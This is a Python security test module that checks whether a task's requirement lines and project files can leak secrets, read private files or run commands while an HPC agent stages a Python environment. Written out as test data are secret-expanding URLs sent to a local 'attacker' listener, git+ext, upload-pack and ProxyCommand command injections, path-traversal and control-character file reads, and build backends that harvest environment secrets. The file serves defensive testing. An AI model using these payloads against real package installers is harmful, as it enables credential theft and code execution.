"""Requirement lines of a task and of its repository: they may read nothing, run nothing and send nothing of ours."""

from __future__ import annotations

import os
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from attacks.case import Case
from hpc_agent.clock import SYSTEM
from hpc_agent.config.clearml_settings import PackageSettings
from hpc_agent.domain.env import RequirementFiles
from hpc_agent.domain.task import Requirements, TaskScript
from hpc_agent.envs.env_request import request_for
from hpc_agent.envs.env_store import EnvStore
from hpc_agent.errors import HpcAgentError
from hpc_agent.git_credentials import GitCredential
from hpc_agent.redact import Secret

DOOR = "requirement lines"

_MARK = "xS3CRETx"
_SECRETS = ("CLEARML_AGENT_GIT_PASS", "OPENAI_KEY", "AWS_SECRET_ACCESS_KEY", "HTTPS_PROXY", "DATABASE_URL")
_SETTINGS = PackageSettings()


class _Listener:
    """A host of the attacker's; ``heard`` is what it received."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.heard.append(f"{self.path} {self.headers}")
                self.send_error(404)

            do_POST = do_HEAD = do_GET

            def log_message(self, *_: object) -> None:
                """Nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self.server.server_port}"


_listener: _Listener | None = None


@contextmanager
def world() -> Iterator[None]:
    """The attacker's host, and secrets in the environment of the process that stages."""
    global _listener
    _listener = _Listener()
    thread = threading.Thread(target=_listener.server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    before = dict(os.environ)
    os.environ.update(dict.fromkeys(_SECRETS, _MARK), UV_HTTP_RETRIES="0", NO_PROXY="127.0.0.1", no_proxy="127.0.0.1")
    # Nothing is asked for elsewhere.
    os.environ.update(UV_DEFAULT_INDEX=f"http://{_listener.address}/simple", UV_CONCURRENT_DOWNLOADS="1")
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(before)
        _listener.server.shutdown()
        _listener.server.server_close()
        thread.join()
        _listener = None


def _staged(folder: Path, lines: tuple[str, ...], texts: Mapping[str, str], git: bool) -> str:
    """Stage an environment for ``lines``; what came out of it for the task's author, and what other readers got."""
    assert _listener is not None
    (folder / "private.txt").write_text(f"{_MARK}\n")
    code = folder / "code"
    code.mkdir()
    filled = [_filled(line, folder) for line in lines]
    texts = {name: _filled(text, folder) for name, text in texts.items()}
    for name, text in texts.items():
        (code / name).write_text(text)
    roots = tuple(name for name in texts if name == "requirements.txt")
    files = RequirementFiles(roots=roots, texts=texts, listed=bool(roots), projects=() if roots or not texts else ("",))
    wanted = Requirements(pip=tuple(filled) if filled or not texts else None)
    credentials = [GitCredential("https://git.host", "me", Secret(_MARK))] if git else []
    store = EnvStore(folder / "cache", folder / "scratch", _SETTINGS, SYSTEM, credentials)
    said: list[str] = []
    _listener.heard.clear()
    try:
        request = request_for(TaskScript(repository="r", requirements=wanted), files, _SETTINGS, source="1")
        store.stage(request, said.append, source_root=code)
        said.append("staged")
    except HpcAgentError as error:
        said.append(str(error))
    return _found(folder, said)


def _filled(text: str, folder: Path) -> str:
    assert _listener is not None
    return text.replace("{folder}", str(folder)).replace("{host}", _listener.address)


def _found(folder: Path, said: list[str]) -> str:
    assert _listener is not None
    if _MARK in "".join(said):
        return "a secret in the task's messages"
    if _MARK in "".join(_listener.heard):
        return "a secret at the attacker's host"
    if (folder / "ran").exists():
        return "a program ran"
    if (folder / "elsewhere").exists():
        return "something was installed elsewhere"
    for path in (folder / "cache").rglob("*"):
        if path.suffix in (".failed", ".json", ".txt") and path.is_file() and _MARK in path.read_text(errors="replace"):
            return f"a secret in {path.name}"
    return ""


def _case(name: str, *lines: str, git: bool = False, **texts: str) -> Case:
    named = {key.replace("_", "."): text for key, text in texts.items()}
    return Case(name, partial(_staged, lines=lines, texts=named, git=git))


_IN_LINES = {
    "a path": "./${NAME}",
    "an editable path": "-e ./${NAME}",
    "a wheel's address": "x @ http://{host}/${NAME}/x-1.0-py3-none-any.whl",
    "a bare address": "http://{host}/${NAME}/x-1.0-py3-none-any.whl",
    "an index": "--index-url http://{host}/${NAME}/simple\nx",
    "a further index": "--extra-index-url=http://{host}/${NAME}/simple\nx",
    "a find-links page": "-f http://{host}/${NAME}/\nx",
    "an include": "-r ${NAME}.txt",
    "a constraint file": "-c ${NAME}.txt\nx",
    "a repository": "git+http://{host}/${NAME}/x.git",
    "a hash": "six==1.0 --hash=sha256:${NAME}",
    "a quoted option": '--find-links "http://{host}/${NAME}/"\nx',
    "a continued line": "x @ \\\nhttp://{host}/${NAME}/x-1.0-py3-none-any.whl",
}
_VARIABLES = ("CLEARML_AGENT_GIT_PASS", "HTTPS_PROXY")
_EXPANDED = [
    _case(f"{name} as a variable in {where}", line.replace("NAME", name))
    for where, line in _IN_LINES.items()
    for name in _VARIABLES
]
_IN_FILES = [
    _case(f"a variable in {where} of requirements.txt", requirements_txt=line.replace("NAME", "OPENAI_KEY"))
    for where, line in list(_IN_LINES.items())[:8]
]

_PROJECT = '[project]\nname = "app"\nversion = "1"\n'
_IN_PROJECTS = [
    _case(f"a variable in {where} of pyproject.toml", pyproject_toml=text)
    for where, text in {
        "a dependency": _PROJECT + 'dependencies = ["x @ http://{host}/${OPENAI_KEY}/x-1.0-py3-none-any.whl"]\n',
        "a group": _PROJECT + '[dependency-groups]\ndev = ["x @ http://{host}/${OPENAI_KEY}/x-1.0-py3-none-any.whl"]\n',
        "a source": _PROJECT
        + 'dependencies = ["x"]\n[tool.uv.sources]\n'
        + 'x = { url = "http://{host}/${OPENAI_KEY}/x-1.0-py3-none-any.whl" }\n',
        "an index": _PROJECT
        + 'dependencies = ["x"]\n[[tool.uv.index]]\nname = "a"\nurl = "http://{host}/${OPENAI_KEY}/"\ndefault = true\n',
        "find-links": _PROJECT
        + 'dependencies = ["x"]\n[tool.uv]\nno-index = true\nfind-links = ["http://{host}/${OPENAI_KEY}/"]\n',
        "a poetry source": '[tool.poetry]\nname = "a"\nversion = "1"\ndescription = ""\nauthors = []\n'
        '[tool.poetry.dependencies]\nx = { url = "http://{host}/${OPENAI_KEY}/x-1.0-py3-none-any.whl" }\n',
    }.items()
]

_PRIVATE = "{folder}/private.txt"
_READING = [
    _case(f"read a file with {line}", line.replace("FILE", _PRIVATE))
    for line in (
        *("-r FILE", "-c FILE", "-rFILE", "--requirement=FILE", "--constraint FILE", "-r file://FILE", '-r "FILE"'),
        *("-r ../private.txt", "-r ./../private.txt", "-c x/../../private.txt", '-e "-r FILE"', "--editable=-rFILE"),
        *(
            '--find-links "x -r FILE"',
            "--extra-index-url 'http://127.0.0.1:9 -r FILE'",
            "-f x -r FILE",
            "--pre -r FILE",
        ),
        *("six\f-r FILE", "six\v-r FILE", "six\u2028-r FILE", "six\x1c-r FILE", "six\r-r FILE", "six # \\\n-r FILE"),
    )
]
_ELSEWHERE = [
    _case(f"install or write elsewhere with {line}", line + "\n./lib")
    for line in (
        *("--target {folder}/elsewhere", "--prefix={folder}/elsewhere", "--root {folder}/elsewhere", "--user"),
        *(
            "--log {folder}/elsewhere",
            "--python /usr/bin/python3",
            "--cache-dir {folder}/elsewhere",
            "--src {folder}/elsewhere",
        ),
        *(
            "--report {folder}/elsewhere",
            "--config-settings x=y",
            "--global-option --log={folder}/elsewhere",
            "--isolated",
        ),
    )
]
_RUNNING = [
    _case(f"run a program with {line}", line)
    for line in (
        *(
            "git+ext::sh -c 'touch {folder}/ran'",
            "x @ git+ext::touch%20{folder}/ran",
            "git+fd::17",
            "hg+http://{host}/x",
        ),
        *("git+file://{folder}/--upload-pack=touch {folder}/ran", "git+ssh://-oProxyCommand=touch%20{folder}/ran/x"),
        *("git+http://{host}/x.git@--upload-pack=touch {folder}/ran", "git+git://{host}/x", "svn+http://{host}/x"),
        *("six @ $(touch {folder}/ran)", "six; touch {folder}/ran", "`touch {folder}/ran`", "six | touch {folder}/ran"),
    )
]
_PASSWORDS = [
    _case(f"password of the settings to {line}", line, git=True)
    for line in (
        "git+http://{host}/x.git",
        "git+http://git.host@{host}/x.git",
        "x @ http://{host}/x-1.0-py3-none-any.whl",
    )
]
_OWN_PASSWORDS = [
    _case(f"a record that holds {address}", f"x @ {address}")
    for address in (
        f"http://me:{_MARK}@127.0.0.1:9/x-1.0-py3-none-any.whl",
        f"http://me:a/{_MARK}@127.0.0.1:9/x-1.0-py3-none-any.whl",
        f"http://me:a@{_MARK}@127.0.0.1:9/x-1.0-py3-none-any.whl",
        f"git+http://me:{_MARK}@127.0.0.1:9/x.git",
    )
]


def _long(folder: Path, line: str) -> str:
    """Lines that took minutes; here they are refused, or read in one pass."""
    text = _staged(folder, (line,), {}, False)
    return text or (
        "a line of a megabyte was handed on" if len(line) > 10_000 and (folder / "scratch").exists() else ""
    )


_LONG = [
    Case(f"a megabyte of {piece!r}", partial(_long, line="x" + piece * (1_000_000 // len(piece))))
    for piece in (" ", "a", "-", "(", "[", " --hash", " ; ", "://", "@", "git+https://", "\\")
]


def _curious(folder: Path, condition: str, git: bool) -> str:
    """A package whose build prints what it sees of our environment."""
    lib = folder / "code" / "lib"
    lib.mkdir(parents=True)
    (lib / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n' + _PROJECT
    )
    seen = folder / "seen"
    (lib / "backend.py").write_text(
        f"import os, pathlib\nfound = [n for n, v in os.environ.items() if {condition}]\n"
        f"pathlib.Path({str(seen)!r}).write_text(' '.join(found))\nraise SystemExit(1)\n"
    )
    credentials = [GitCredential("https://git.host", "me", Secret(_MARK))] if git else []
    store = EnvStore(folder / "cache", folder / "scratch", _SETTINGS, SYSTEM, credentials)
    script = TaskScript(repository="r", requirements=Requirements(pip=("--no-index", "./lib")))
    try:
        store.stage(request_for(script, RequirementFiles(), _SETTINGS, source="1"), print, source_root=folder / "code")
    except HpcAgentError:
        return seen.read_text()
    raise RuntimeError("the build was to fail")


_BUILDS: tuple[tuple[str, Callable[[Path], str]], ...] = (
    (
        "a build that looks for secrets",
        partial(_curious, condition=f"'{_MARK}' in v and n.lower() != 'https_proxy'", git=False),
    ),
    ("a build that looks for git's password", partial(_curious, condition="'git_password' in n.lower()", git=True)),
    ("a build that looks for variables of ClearML", partial(_curious, condition="n.startswith('CLEARML')", git=False)),
)

CASES: tuple[Case, ...] = (
    *_EXPANDED,
    *_IN_FILES,
    *_IN_PROJECTS,
    *_READING,
    *_ELSEWHERE,
    *_RUNNING,
    *_PASSWORDS,
    *_OWN_PASSWORDS,
    *_LONG,
    *(Case(name, attempt) for name, attempt in _BUILDS),
)
